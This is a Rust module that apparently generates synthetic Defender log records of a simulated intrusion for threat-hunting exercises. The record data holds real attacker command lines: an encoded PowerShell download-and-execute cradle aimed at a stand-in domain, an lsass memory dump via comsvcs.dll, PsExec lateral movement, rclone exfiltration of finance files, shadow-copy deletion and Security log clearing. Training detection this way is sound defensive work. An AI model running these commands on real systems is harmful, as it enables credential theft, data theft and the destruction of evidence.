//! The intrusion hidden in the events.
//!
//! Times are days before the end. The hunting queries in `fixtures/queries` find each step.
//!
//! | when | what | tables |
//! |---|---|---|
//! | 6 d | five people get `Invoice_88213.docm` from a look-alike domain; the first one opens it | EmailEvents, EmailAttachmentInfo, EmailUrlInfo, DeviceFileEvents |
//! | 6 d | Word starts an encoded PowerShell, which fetches `svchost-upd.exe` and makes it start with Windows | DeviceProcessEvents, DeviceNetworkEvents, DeviceRegistryEvents, DeviceEvents |
//! | 6 d – 1 d | the implant calls home every ten minutes | DeviceNetworkEvents |
//! | 5 d | discovery: `whoami`, `net group`, `nltest` | DeviceProcessEvents |
//! | 4 d | memory of `lsass` is dumped; passwords are tried, one works | DeviceProcessEvents, DeviceEvents, DeviceLogonEvents |
//! | 3 d | PsExec to the file server | DeviceFileEvents, DeviceProcessEvents, DeviceLogonEvents |
//! | 2 d | files are packed and copied away with rclone, shadow copies deleted, the log cleared | DeviceProcessEvents, DeviceNetworkEvents, DeviceFileEvents, DeviceEvents |
//! | 5 d – 2 d | alerts and one incident | AlertInfo, AlertEvidence, SecurityAlert, SecurityIncident |

use crate::incident::{alert_records, incident};
use crate::world::{Device, User, World};
use crate::{Record, Sink};
use kql_types::datetime::{TICKS_PER_DAY, TICKS_PER_HOUR, TICKS_PER_MINUTE, TICKS_PER_SECOND};
use rand_chacha::ChaCha8Rng;
use std::collections::VecDeque;
use std::io;

/// The address the implant calls.
pub const C2_ADDRESS: &str = "203.0.113.66";
/// The look-alike domain.
pub const C2_DOMAIN: &str = "fabrikarn.example";
/// SHA-256 of the attachment.
pub const ATTACHMENT: &str = "9f2c1e77d0b84a5f6e13c2a97b0d4e58f1a6c3b2d7e8f90415263748596a7b8c";
/// SHA-1 of the implant.
pub const IMPLANT: &str = "5b1d8c0e2f7a49368d0c4b6a91e3f57280d6c9ab";
const IMPLANT_FILE: &str = "svchost-upd.exe";
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBmAGEAYgByAGkAawBhAHIAbgAuAGUAeABhAG0AcABsAGUALwBwACcAKQA=";

/// The records of the intrusion not yet told, by table and time.
#[derive(Debug)]
pub struct Story {
    /// By table, in order of time.
    records: Vec<(&'static str, VecDeque<Record>)>,
    alerts: Vec<Alert>,
    world: World,
}

#[derive(Debug)]
struct Alert {
    time: i64,
    title: &'static str,
    severity: &'static str,
    tactic: &'static str,
    technique: &'static str,
    device: usize,
}

impl Story {
    /// Writes the records of a table that come before an instant.
    pub(crate) fn tell_until(&mut self, table: &'static str, time: i64, sink: &mut dyn Sink) -> io::Result<()> {
        let Some((_, records)) = self.records.iter_mut().find(|(name, _)| *name == table) else { return Ok(()) };
        while let Some(record) = records.pop_front_if(|r| r.time <= time) {
            sink.record(table, &record.line())?;
        }
        Ok(())
    }

    /// Writes what is left of a table: records later than its last everyday event.
    pub(crate) fn tell_rest(&mut self, table: &'static str, sink: &mut dyn Sink) -> io::Result<()> {
        self.tell_until(table, i64::MAX, sink)
    }

    /// Alerts and the incident of the intrusion.
    pub(crate) fn alerts(&self, random: &mut ChaCha8Rng) -> Vec<Record> {
        let mut lines = Vec::new();
        let mut ids = Vec::new();
        for alert in &self.alerts {
            let id = crate::world::guid(random);
            let device = &self.world.devices[alert.device];
            alert_records(
                &mut lines,
                alert.time,
                &id,
                alert.title,
                alert.severity,
                alert.tactic,
                alert.technique,
                device,
                &self.world,
                random,
            );
            ids.push((alert.time, id));
        }
        let ids_only: Vec<&str> = ids.iter().map(|(_, id)| id.as_str()).collect();
        if let Some((last, _)) = ids.last() {
            let title = "Multi-stage incident involving Initial access & Exfiltration on multiple endpoints";
            incident(&mut lines, *last, 4_242, title, "High", "Microsoft 365 Defender", &ids_only, false, random);
        }
        lines
    }
}

struct Teller<'a> {
    world: &'a World,
    records: Vec<Record>,
    report: i64,
}

impl Teller<'_> {
    fn device(&mut self, table: &'static str, time: i64, device: &Device, action: &str) -> Record {
        self.report += 1;
        Record::streamed(table, time)
            .text("DeviceId", &device.id)
            .text("DeviceName", &device.name)
            .long("ReportId", 900_000 + self.report)
            .text("ActionType", action)
    }

    #[allow(clippy::too_many_arguments)]
    fn process(
        &mut self,
        time: i64,
        device: &Device,
        user: &User,
        file: &str,
        folder: &str,
        command: &str,
        parent: (&str, &str),
    ) {
        let id = self.report + 6_000;
        let record = self
            .device("DeviceProcessEvents", time, device, "ProcessCreated")
            .text("FileName", file)
            .text("FolderPath", &format!("{folder}\\{file}"))
            .text("SHA1", if file == IMPLANT_FILE { IMPLANT } else { "0c6ed5c0e7a9c2c8f0a4d8a1f3b2e4c5d6978899" })
            .long("ProcessId", id)
            .text("ProcessCommandLine", command)
            .time("ProcessCreationTime", time)
            .text("ProcessIntegrityLevel", "High")
            .text("AccountDomain", "contoso")
            .text("AccountName", &user.name)
            .text("AccountSid", &user.sid)
            .text("AccountUpn", &user.upn)
            .text("AccountObjectId", &user.object_id);
        let record = initiated(record, user, parent.0, parent.1);
        self.records.push(record);
    }
}

fn initiated(record: Record, user: &User, file: &str, command: &str) -> Record {
    let time = record.time;
    record
        .text("InitiatingProcessFileName", file)
        .text("InitiatingProcessCommandLine", command)
        .long("InitiatingProcessId", 4_242)
        .time("InitiatingProcessCreationTime", time - 30 * TICKS_PER_SECOND)
        .text("InitiatingProcessSHA1", if file == IMPLANT_FILE { IMPLANT } else { "" })
        .text("InitiatingProcessAccountDomain", "contoso")
        .text("InitiatingProcessAccountName", &user.name)
        .text("InitiatingProcessAccountSid", &user.sid)
        .text("InitiatingProcessAccountUpn", &user.upn)
        .text("InitiatingProcessIntegrityLevel", "High")
}

/// All records of the intrusion.
pub(crate) fn tell(world: &World, end: i64) -> Story {
    let (client, server) = (&world.devices[1], &world.devices[7]);
    let victim = &world.users[client.user];
    let admin = &world.users[server.user];
    let at = |days: i64, hour: i64, minute: i64| {
        end - days * TICKS_PER_DAY - 12 * TICKS_PER_HOUR + hour * TICKS_PER_HOUR + minute * TICKS_PER_MINUTE
    };
    let mut t = Teller { world, records: Vec::new(), report: 0 };

    phishing(&mut t, at(6, 9, 12));

    let start = at(6, 9, 31);
    let word = ("WINWORD.EXE", r#""WINWORD.EXE" /n "C:\Users\Public\Downloads\Invoice_88213.docm""#);
    let record = t
        .device("DeviceFileEvents", start, client, "FileCreated")
        .text("FileName", "Invoice_88213.docm")
        .text("FolderPath", &format!(r"C:\Users\{}\Downloads\Invoice_88213.docm", victim.name))
        .text("SHA256", ATTACHMENT)
        .long("FileSize", 88_213)
        .text("FileOriginUrl", &format!("https://{C2_DOMAIN}/pay"));
    t.records.push(initiated(record, victim, "OUTLOOK.EXE", r#""OUTLOOK.EXE""#));
    let system = r"C:\Windows\System32";
    let shell = format!("powershell.exe -nop -w hidden -ep bypass -enc {ENCODED}");
    t.process(
        start + TICKS_PER_MINUTE,
        client,
        victim,
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        &shell,
        word,
    );
    let record = t.device("DeviceEvents", start + 61 * TICKS_PER_SECOND, client, "PowerShellCommand").text(
        "AdditionalFields",
        "{\"Command\":\"Invoke-Expression\",\"ScriptBlock\":{\"Url\":\"https://fabrikarn.example/p\",\"Depth\":2}}",
    );
    t.records.push(initiated(record, victim, "powershell.exe", &shell));
    connection(
        &mut t,
        start + 62 * TICKS_PER_SECOND,
        client,
        victim,
        C2_ADDRESS,
        C2_DOMAIN,
        ("powershell.exe", &shell),
    );
    let implant = r"C:\Users\Public\svchost-upd.exe";
    let record = t
        .device("DeviceFileEvents", start + 65 * TICKS_PER_SECOND, client, "FileCreated")
        .text("FileName", IMPLANT_FILE)
        .text("FolderPath", implant)
        .text("SHA1", IMPLANT)
        .long("FileSize", 412_672);
    t.records.push(initiated(record, victim, "powershell.exe", &shell));
    t.process(
        start + 70 * TICKS_PER_SECOND,
        client,
        victim,
        IMPLANT_FILE,
        r"C:\Users\Public",
        implant,
        ("powershell.exe", &shell),
    );
    let record = t
        .device("DeviceRegistryEvents", start + 75 * TICKS_PER_SECOND, client, "RegistryValueSet")
        .text("RegistryKey", r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run")
        .text("RegistryValueName", "WindowsUpdater")
        .text("RegistryValueType", "String")
        .text("RegistryValueData", implant);
    t.records.push(initiated(record, victim, IMPLANT_FILE, implant));
    let task = r#"schtasks.exe /create /sc minute /mo 30 /tn "Updater" /tr C:\Users\Public\svchost-upd.exe /f"#;
    t.process(start + 80 * TICKS_PER_SECOND, client, victim, "schtasks.exe", system, task, (IMPLANT_FILE, implant));

    let mut beacon = start + 10 * TICKS_PER_MINUTE;
    let mut n = 0;
    while beacon < end - TICKS_PER_DAY {
        // Regular to within seconds, as implants with a small jitter are.
        connection(
            &mut t,
            beacon + n % 7 * TICKS_PER_SECOND,
            client,
            victim,
            C2_ADDRESS,
            C2_DOMAIN,
            (IMPLANT_FILE, implant),
        );
        beacon += 10 * TICKS_PER_MINUTE;
        n += 1;
    }

    let discovery = [
        "whoami.exe /all",
        "net.exe group \"Domain Admins\" /domain",
        "nltest.exe /domain_trusts",
        "quser.exe",
        "ipconfig.exe /all",
        "net.exe view /all",
    ];
    for (i, command) in discovery.iter().enumerate() {
        let file = command.split(' ').next().unwrap_or("");
        t.process(
            at(5, 14, 3) + i as i64 * 20 * TICKS_PER_SECOND,
            client,
            victim,
            file,
            system,
            command,
            ("cmd.exe", "cmd.exe /q"),
        );
    }

    let dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full";
    t.process(at(4, 22, 40), client, victim, "rundll32.exe", system, dump, (IMPLANT_FILE, implant));
    let record = t
        .device("DeviceEvents", at(4, 22, 40) + TICKS_PER_SECOND, client, "OpenProcessApiCall")
        .text("FileName", "lsass.exe")
        .text("AdditionalFields", "{\"DesiredAccess\":2097151,\"TargetProcess\":\"lsass.exe\"}");
    t.records.push(initiated(record, victim, "rundll32.exe", dump));
    for i in 0..24 {
        logon(&mut t, at(4, 23, 1) + i * 9 * TICKS_PER_SECOND, server, client, admin, i == 23);
    }

    let remote = format!(r"PsExec64.exe \\{} -s cmd.exe", server.name);
    t.process(at(3, 1, 15), client, admin, "PsExec64.exe", r"C:\Users\Public", &remote, ("cmd.exe", "cmd.exe /q"));
    let record = t
        .device("DeviceFileEvents", at(3, 1, 15) + 2 * TICKS_PER_SECOND, server, "FileCreated")
        .text("FileName", "PSEXESVC.exe")
        .text("FolderPath", r"C:\Windows\PSEXESVC.exe")
        .text("RequestProtocol", "SMB")
        .text("RequestSourceIP", &client.ip)
        .text("RequestAccountName", &admin.name)
        .text("ShareName", "ADMIN$");
    t.records.push(initiated(record, admin, "ntoskrnl.exe", ""));
    t.process(
        at(3, 1, 16),
        server,
        admin,
        "PSEXESVC.exe",
        r"C:\Windows",
        "PSEXESVC.exe",
        ("services.exe", "services.exe"),
    );
    t.process(at(3, 1, 17), server, admin, "cmd.exe", system, "cmd.exe", ("PSEXESVC.exe", "PSEXESVC.exe"));

    let steps = [
        (2, "rar.exe", r"C:\Users\Public", r"rar.exe a -hpQ7 -m5 C:\Users\Public\fs.rar D:\Finance\*"),
        (
            14,
            "rclone.exe",
            r"C:\Users\Public",
            r"rclone.exe copy C:\Users\Public\fs.rar mega:backup --no-check-certificate --transfers 8",
        ),
        (55, "vssadmin.exe", system, "vssadmin.exe delete shadows /all /quiet"),
        (57, "wevtutil.exe", system, "wevtutil.exe cl Security"),
    ];
    for (minute, file, folder, command) in steps {
        t.process(at(2, 3, minute), server, admin, file, folder, command, ("cmd.exe", "cmd.exe"));
    }
    let copy = ("rclone.exe", steps[1].3);
    for i in 0..30 {
        connection(
            &mut t,
            at(2, 3, 15) + i * 40 * TICKS_PER_SECOND,
            server,
            admin,
            "198.51.100.23",
            "g.api.mega.example",
            copy,
        );
    }
    let record = t.device("DeviceEvents", at(2, 3, 57) + TICKS_PER_SECOND, server, "SecurityLogCleared");
    t.records.push(initiated(record, admin, "wevtutil.exe", steps[3].3));

    let alert =
        |time, title, severity, tactic, technique, device| Alert { time, title, severity, tactic, technique, device };
    let alerts = vec![
        alert(
            at(6, 9, 40),
            "Suspicious PowerShell download or encoded command execution",
            "Medium",
            "Execution",
            "T1059.001",
            1,
        ),
        alert(at(4, 22, 45), "Suspected credential theft activity", "High", "CredentialAccess", "T1003.001", 1),
        alert(at(3, 1, 20), "Suspicious remote activity with PsExec", "Medium", "LateralMovement", "T1569.002", 7),
        alert(at(2, 3, 58), "Possible data exfiltration with rclone", "High", "Exfiltration", "T1567.002", 7),
    ];
    let mut told = t.records;
    told.sort_by_key(|r| r.time);
    let mut records: Vec<(&'static str, VecDeque<Record>)> = Vec::new();
    for record in told {
        match records.iter_mut().find(|(name, _)| *name == record.table) {
            Some((_, of_table)) => of_table.push_back(record),
            None => records.push((record.table, VecDeque::from([record]))),
        }
    }
    Story { records, alerts, world: world.clone() }
}

fn phishing(t: &mut Teller<'_>, time: i64) {
    let world = t.world;
    for (i, user) in world.users.iter().enumerate().skip(1).take(5) {
        let time = time + i as i64 * 3 * TICKS_PER_SECOND;
        let id = format!("88213000-0000-4000-8000-00000000000{i}");
        let report = format!("{id}-88213");
        let sender = format!("billing@{C2_DOMAIN}");
        t.records.push(
            Record::streamed("EmailEvents", time)
                .text("NetworkMessageId", &id)
                .text("InternetMessageId", &format!("<{i}88213@{C2_DOMAIN}>"))
                .text("SenderMailFromAddress", &sender)
                .text("SenderFromAddress", &sender)
                .text("SenderDisplayName", "Fabrikam Billing")
                .text("SenderMailFromDomain", C2_DOMAIN)
                .text("SenderFromDomain", C2_DOMAIN)
                .text("SenderIPv4", C2_ADDRESS)
                .text("RecipientEmailAddress", &user.upn)
                .text("RecipientObjectId", &user.object_id)
                .text("Subject", "Invoice 88213 overdue - action required")
                .text("EmailDirection", "Inbound")
                .text("DeliveryAction", "Delivered")
                .text("DeliveryLocation", "Inbox/folder")
                .text(
                    "AuthenticationDetails",
                    "{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\",\"CompAuth\":\"none\"}",
                )
                .long("AttachmentCount", 1)
                .long("UrlCount", 1)
                .text("EmailLanguage", "en")
                .text("ReportId", &report),
        );
        t.records.push(
            Record::streamed("EmailAttachmentInfo", time)
                .text("NetworkMessageId", &id)
                .text("SenderFromAddress", &sender)
                .text("RecipientEmailAddress", &user.upn)
                .text("FileName", "Invoice_88213.docm")
                .text("FileType", "docm")
                .text("SHA256", ATTACHMENT)
                .long("FileSize", 88_213)
                .text("ReportId", &report),
        );
        t.records.push(
            Record::streamed("EmailUrlInfo", time)
                .text("NetworkMessageId", &id)
                .text("Url", &format!("https://{C2_DOMAIN}/pay?id={i}"))
                .text("UrlDomain", C2_DOMAIN)
                .text("UrlLocation", "Body")
                .text("ReportId", &report),
        );
        if i > 3 {
            t.records.push(
                Record::streamed("EmailPostDeliveryEvents", time + 5 * TICKS_PER_HOUR)
                    .text("NetworkMessageId", &id)
                    .text("Action", "Moved to quarantine")
                    .text("ActionType", "Malware ZAP")
                    .text("ActionTrigger", "SpecialAction")
                    .text("ActionResult", "Success")
                    .text("RecipientEmailAddress", &user.upn)
                    .text("DeliveryLocation", "Quarantine")
                    .text("ReportId", &report),
            );
        }
    }
}

fn connection(t: &mut Teller<'_>, time: i64, device: &Device, user: &User, ip: &str, url: &str, process: (&str, &str)) {
    let record = t
        .device("DeviceNetworkEvents", time, device, "ConnectionSuccess")
        .text("RemoteIP", ip)
        .long("RemotePort", 443)
        .text("RemoteUrl", url)
        .text("LocalIP", &device.ip)
        .long("LocalPort", 50_000 + time % 9_000)
        .text("Protocol", "Tcp")
        .text("LocalIPType", "Private")
        .text("RemoteIPType", "Public");
    t.records.push(initiated(record, user, process.0, process.1));
}

fn logon(t: &mut Teller<'_>, time: i64, device: &Device, from: &Device, user: &User, success: bool) {
    let record = t
        .device("DeviceLogonEvents", time, device, if success { "LogonSuccess" } else { "LogonFailed" })
        .text("LogonType", "Network")
        .text("AccountDomain", "contoso")
        .text("AccountName", &user.name)
        .text("AccountSid", &user.sid)
        .text("Protocol", "NTLM")
        .text("FailureReason", if success { "" } else { "InvalidUserNameOrPassword" })
        .flag("IsLocalAdmin", success)
        .text("RemoteDeviceName", from.name.split('.').next().unwrap_or(""))
        .text("RemoteIP", &from.ip)
        .text("RemoteIPType", "Private")
        .long("RemotePort", 49_700);
    t.records.push(record);
}
